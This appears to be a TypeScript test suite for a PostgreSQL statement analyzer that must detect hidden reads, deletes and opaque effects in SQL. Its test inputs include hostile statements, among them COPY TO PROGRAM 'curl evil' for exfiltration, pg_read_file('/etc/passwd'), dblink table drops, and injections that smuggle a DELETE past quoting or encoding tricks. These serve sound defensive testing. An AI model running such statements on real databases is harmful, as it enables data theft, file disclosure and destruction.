import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Analysis, SqlAction } from '../statement.ts';
import { analyze } from './analyze.ts';
import type { NameContext } from './catalog.ts';
import { HOSPITAL, session } from './hospital.fixture.ts';
import { loadParser } from './parser.ts';

const parser = await loadParser();

function see(text: string, changes?: Partial<NameContext>): Analysis {
  return analyze(text, parser, HOSPITAL, session(changes));
}

/** `action: written relations` of each operation, statements apart. */
function effectsOf(text: string, changes?: Partial<NameContext>): string[] {
  return see(text, changes).statements.map(({ operations }) =>
    operations.map(({ action, facts }) => [action, ...facts.writes].join(' ')).join(', '),
  );
}

function actionsOf(text: string, changes?: Partial<NameContext>): SqlAction[] {
  return see(text, changes).statements.flatMap(({ operations }) =>
    operations.map(({ action }) => action),
  );
}

function isOpaque(text: string): boolean {
  return see(text).statements.some(({ operations }) =>
    operations.some(({ facts }) => facts.opaque),
  );
}

const DELETES_CUSTOMERS: readonly string[] = [
  'WITH doomed AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM doomed',
  'WITH x AS (SELECT $$a)b$$) DELETE FROM customers',
  'WITH x AS (SELECT $tag$a(b$tag$) DELETE FROM customers',
  'MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN DELETE',
  'COPY (DELETE FROM customers RETURNING *) TO STDOUT',
  'EXPLAIN ANALYZE DELETE FROM customers',
  'EXPLAIN ANALYSE DELETE FROM customers',
  'EXPLAIN (ANALYSE) DELETE FROM customers',
  'EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM customers',
  'EXPLAIN (VERBOSE, ANALYZE 1) DELETE FROM customers',
  'WITH delete AS (SELECT 1) DELETE FROM customers',
  'WITH customers AS (SELECT 1) DELETE FROM customers',
  'WITH RECURSIVE customers AS (SELECT 1) DELETE FROM customers',
  'DELETE FROM ONLY (customers)',
  'DELETE FROM U&"\\0063ustomers"',
  'PREPARE p AS DELETE FROM customers',
  'WITH a AS (WITH b AS (DELETE FROM customers RETURNING 1) SELECT * FROM b) SELECT * FROM a',
  'CREATE RULE r AS ON INSERT TO staging DO ALSO DELETE FROM customers',
  'INSERT INTO staging WITH d AS (DELETE FROM customers RETURNING id) SELECT id FROM d',
];

const READS_CUSTOMERS: readonly string[] = [
  'SELECT * FROM audit x, customers y',
  'SELECT * FROM ONLY (customers)',
  'SELECT * FROM (customers CROSS JOIN audit)',
  'TABLE customers',
  'WITH customers AS (SELECT * FROM customers) SELECT * FROM customers',
  'WITH a AS (SELECT * FROM customers), customers AS (SELECT 1) SELECT * FROM a',
  'SELECT (SELECT ssn FROM customers LIMIT 1)',
  'SELECT 1 ORDER BY (SELECT ssn FROM customers LIMIT 1)',
  'SELECT 1 LIMIT (SELECT id FROM customers)',
  'VALUES ((SELECT ssn FROM customers))',
  'SELECT * FROM audit WHERE EXISTS (TABLE customers)',
  'SELECT count(*) FILTER (WHERE id IN (SELECT id FROM customers)) OVER () FROM audit',
  'SELECT * FROM LATERAL (SELECT * FROM customers) x',
  'SELECT * FROM generate_series(1, (SELECT max(id) FROM customers))',
  'SELECT * FROM customers TABLESAMPLE system (10)',
  'SELECT 1 UNION SELECT id FROM customers',
  'SELECT * FROM customer_names',
  'SELECT * FROM customer_initials',
  'COPY customers TO STDOUT',
  'COPY (SELECT * FROM customers) TO STDOUT',
  'DECLARE c CURSOR FOR SELECT * FROM customers',
  'CREATE TABLE x AS SELECT * FROM customers',
  'CREATE VIEW x AS SELECT * FROM customers',
  'CREATE MATERIALIZED VIEW x AS SELECT * FROM customers',
  'SELECT * INTO x FROM customers',
  'SELECT 1 AS a INTO x UNION SELECT id FROM customers',
  'INSERT INTO staging SELECT * FROM customers',
  'INSERT INTO staging VALUES ((SELECT id FROM customers))',
  'UPDATE audit SET note = c.ssn FROM customers c',
  'UPDATE audit SET (note) = (SELECT ssn FROM customers)',
  'DELETE FROM audit USING customers c WHERE note = c.ssn',
  'UPDATE customers SET name = name RETURNING ssn',
  'INSERT INTO audit VALUES (1) ON CONFLICT (id) DO UPDATE SET note = (SELECT ssn FROM customers)',
  'EXPLAIN SELECT * FROM customers',
  'MERGE INTO staging s USING customers c ON c.id = s.id WHEN MATCHED THEN DELETE',
  "SELECT * FROM JSON_TABLE((SELECT to_json(c) FROM customers c), '$' COLUMNS (a int)) t",
  'SELECT CASE WHEN (SELECT true FROM customers) THEN 1 END',
];

const OPAQUE: readonly string[] = [
  'DO $$ BEGIN DELETE FROM customers; END $$',
  'CALL refresh_all()',
  'CALL unheard_of()',
  'EXECUTE unheard_of',
  'FETCH ALL FROM unheard_of',
  "SELECT dblink_exec('dbname=x', 'DROP TABLE customers')",
  "SELECT query_to_xml('SELECT * FROM customers', true, true, '')",
  "SELECT pg_catalog.query_to_xml('SELECT 1', true, true, '')",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT ('/etc/passwd'::text).pg_read_file",
  "SELECT lo_export(1, '/tmp/x')",
  "SELECT lo_import('/etc/passwd')",
  'SELECT lo_get(1)',
  "COPY customers TO PROGRAM 'curl evil'",
  "COPY customers FROM '/tmp/x'",
  'SELECT pg_terminate_backend(1)',
  'SELECT pg_reload_conf()',
  "LOAD 'evil'",
  "ALTER SYSTEM SET archive_command = 'evil'",
  'SELECT score(id) FROM customers',
  'SELECT c.score FROM customers c',
  'SELECT (c).score FROM customers c',
  'SELECT * FROM scored',
  'SELECT * FROM customers ORDER BY score(id)',
  'SELECT sum(score(id)) OVER (PARTITION BY score(id)) FROM customers',
  'SELECT evil.f()',
  "SELECT set_config(name, 'x', false) FROM customers",
  "SELECT set_config('search_path_'::varchar(11), 'research', false)",
  "SELECT set_config('search_path_'::public.varchar, 'research', false)",
  `SELECT set_config('search_path_'::"pg_catalog.text", 'research', false)`,
  "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
  'SELECT 1 OPERATOR(evil.+) 2',
  'CREATE EXTENSION dblink',
  'CREATE INDEX ON customers (score(id))',
];

describe('analyze, against statements that hide what they do', () => {
  it('sees every kind of SET in an UPDATE of pg_settings, and that names may mean something else then', () => {
    const [statement] = see("UPDATE pg_settings SET setting = 'x' WHERE name = 'y'").statements;
    const actions = statement?.operations.map(({ action }) => action);
    for (const action of ['sql.set', 'sql.set-lexing', 'sql.set-role'] as const)
      assert(actions?.includes(action), action);
    assert.equal(statement?.effects.searchPath, 'unknown');
  });

  it('trusts no type by its name alone where a schema stands before pg_catalog: another session may make one there', () => {
    const text = `SELECT set_config('search_path_'::text, 'research', false)`;
    for (const searchPaths of [[['own', 'pg_catalog']], undefined]) {
      const { statements } = analyze(text, parser, HOSPITAL, session({ searchPaths }));
      assert.equal(statements[0]?.effects.searchPath, 'unknown');
    }
    const plain = text.replace('::text', '::pg_catalog.text');
    const [first] = analyze(
      plain,
      parser,
      HOSPITAL,
      session({ searchPaths: undefined }),
    ).statements;
    assert.equal(first?.effects.searchPath, undefined);
    assert.equal(see(text).statements[0]?.effects.searchPath, undefined);
  });

  for (const text of DELETES_CUSTOMERS) {
    it(`sees a delete of customers in ${text}`, () => {
      const [operations] = effectsOf(text);
      assert.match(operations ?? '', /sql\.delete public\.customers/);
    });
  }

  for (const text of READS_CUSTOMERS) {
    it(`sees customers read in ${text}`, () => {
      const reads = see(text).statements.flatMap(({ operations }) =>
        operations.flatMap(({ facts }) => facts.reads),
      );
      assert(reads.includes('public.customers'), reads.join());
    });
  }

  for (const text of OPAQUE) {
    it(`calls opaque ${text}`, () => {
      assert(isOpaque(text));
      const [statement] = see(text).statements;
      assert.equal(statement?.effects.searchPath, 'unknown');
    });
  }

  it('sees two statements where a literal pretends to go on', () => {
    assert.deepEqual(effectsOf("UPDATE audit SET note = E'O\\'Brien'; DELETE FROM customers"), [
      'sql.update public.audit',
      'sql.delete public.customers',
    ]);
  });

  it('sees three statements where a dollar sign continues an identifier', () => {
    assert.deepEqual(effectsOf('SELECT 1 AS x$$; DELETE FROM customers; SELECT 2 AS y$$'), [
      'sql.select',
      'sql.delete public.customers',
      'sql.select',
    ]);
  });

  it('ends a comment at a bare carriage return', () => {
    assert.deepEqual(effectsOf('SELECT 1 --\r; DELETE FROM customers'), [
      'sql.select',
      'sql.delete public.customers',
    ]);
  });

  it('sees every write of a MERGE', () => {
    const [operations] = effectsOf(
      'MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED AND s.id > 1 THEN UPDATE SET name = s.name WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)',
    );
    assert.equal(
      operations,
      'sql.merge public.customers, sql.select, sql.update public.customers, sql.delete public.customers, sql.insert public.customers',
    );
  });

  it('resolves quoted names as they are', () => {
    assert.deepEqual(effectsOf('DELETE FROM "cust""omers"'), ['sql.delete public.cust"omers']);
  });

  it('invents no write', () => {
    for (const text of [
      'SELECT /* a /* DELETE FROM customers; */ ; DROP TABLE x */ 1',
      "SELECT 'DROP TABLE customers'",
      "SELECT has_table_privilege('customers', 'DELETE') AS delete",
      'EXPLAIN DELETE FROM customers',
      'EXPLAIN (ANALYZE off) DELETE FROM customers',
    ]) {
      assert.deepEqual(
        see(text).statements.flatMap(({ operations }) =>
          operations.flatMap(({ facts }) => facts.writes),
        ),
        [],
      );
    }
    assert.deepEqual(
      actionsOf('CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM customers $$'),
      ['sql.create'],
    );
    assert.deepEqual(actionsOf('CREATE PROCEDURE f() BEGIN ATOMIC DELETE FROM customers; END'), [
      'sql.create',
    ]);
  });

  it('refuses to look at text that the server may read otherwise', () => {
    const cases: [string, Partial<NameContext>][] = [
      ["SELECT 'a\\''; DELETE FROM customers; --'", { standardConformingStrings: false }],
      ["SELECT 'é'", { clientEncoding: 'SJIS' }],
      ["SELECT 'é'", { clientEncoding: 'GBK' }],
      ["SELECT '\ufffd'", { clientEncoding: 'LATIN1' }],
      ['SELECT 1\0; DROP TABLE customers', {}],
      [`SELECT '${'\ud800'}'`, {}],
      [`SELECT ${' '.repeat(65_536)} 1`, {}],
    ];
    for (const [text, changes] of cases) {
      const { statements, refusal } = see(text, changes);
      assert.deepEqual(
        statements.map(({ operations }) => operations.map(({ action }) => action)),
        [['sql.unknown']],
      );
      assert(refusal !== undefined && statements[0]?.operations[0]?.facts.opaque);
    }
  });

  it('tells apart the settings that change how text is read or whose rights count', () => {
    const expected: [string, SqlAction][] = [
      ['SET standard_conforming_strings = off', 'sql.set-lexing'],
      ["SET Standard_Conforming_Strings TO 'ON'", 'sql.set'],
      ["SET client_encoding = 'SJIS'", 'sql.set-lexing'],
      ["SET NAMES 'SJIS'", 'sql.set-lexing'],
      ["SET NAMES 'utf-8'", 'sql.set'],
      ['RESET client_encoding', 'sql.set-lexing'],
      ['SET backslash_quote = on', 'sql.set-lexing'],
      ['SET ROLE admin', 'sql.set-role'],
      ['RESET ROLE', 'sql.set-role'],
      ['SET SESSION AUTHORIZATION DEFAULT', 'sql.set-role'],
      ['SET work_mem = 64', 'sql.set'],
    ];
    for (const [text, action] of expected) assert.deepEqual(actionsOf(text), [action], text);
    assert(actionsOf("SELECT set_config('role', 'admin', false)").includes('sql.set-role'));
    assert(
      actionsOf("SELECT set_config('standard_conforming_strings', 'off', false)").includes(
        'sql.set-lexing',
      ),
    );
    assert(
      actionsOf('ALTER ROLE me SET standard_conforming_strings = off').includes('sql.set-lexing'),
    );
  });

  it('follows the search path within a text, and out of it', () => {
    const reads = (text: string, changes?: Partial<NameContext>): readonly string[] =>
      see(text, changes).statements.at(-1)?.operations[0]?.facts.reads ?? [];
    assert.deepEqual(reads('SELECT * FROM customers', { searchPaths: [['research', 'public']] }), [
      'research.customers',
    ]);
    assert.deepEqual(reads('SET search_path = research; SELECT * FROM customers'), [
      'research.customers',
    ]);
    assert.deepEqual(
      see("SELECT set_config('search_path', 'a, \"B\"', true)").statements[0]?.effects.searchPath,
      ['a', 'B'],
    );
    const own = { overlay: [{ schema: 'pg_temp', name: 'text' }] };
    for (const [value, changes, path] of [
      ["'public_'::varchar(6)", {}, 'unknown'],
      ["'public'::text", own, 'unknown'],
      ["'public'::text", {}, ['public']],
      ["'public'::pg_catalog.text", own, ['public']],
    ] as const) {
      const { statements } = see(`SELECT set_config('search_path', ${value}, true)`, changes);
      assert.deepEqual(statements[0]?.effects.searchPath, path, value);
    }
    assert.deepEqual(
      actionsOf("SELECT set_config('role_'::text, 'a', false)", own),
      actionsOf('SELECT set_config($1, $2, false)'),
    );
    assert.equal(
      see("SELECT set_config('role', 'admin', false)").statements[0]?.effects.searchPath,
      'unknown',
    );
    assert.deepEqual([...reads('SELECT * FROM customers', { searchPaths: undefined })].sort(), [
      'public.customers',
      'research.customers',
    ]);
    assert.deepEqual(
      [...reads('SET search_path = research; ROLLBACK; SELECT * FROM customers')].sort(),
      ['public.customers', 'research.customers'],
    );
    assert(
      reads('CREATE TEMP TABLE customers (a int); SELECT * FROM customers').includes(
        'pg_temp.customers',
      ),
    );
    assert(
      reads('SELECT * FROM customers', {
        overlay: [{ schema: undefined, name: 'customers' }],
      }).includes('public.customers'),
    );
  });

  it('counts ancestors and descendants, and ONLY', () => {
    const reads = (text: string): readonly string[] =>
      see(text).statements[0]?.operations[0]?.facts.reads ?? [];
    assert.deepEqual(reads('SELECT * FROM visits_2025'), ['public.visits_2025', 'public.visits']);
    assert.deepEqual(reads('SELECT * FROM visits'), [
      'public.visits',
      'public.visits_2025',
      'public.visits_2026',
    ]);
    assert.deepEqual(reads('SELECT * FROM ONLY people'), ['public.people']);
    assert.deepEqual(effectsOf('DELETE FROM people'), [
      'sql.delete public.people public.employees',
    ]);
  });
});
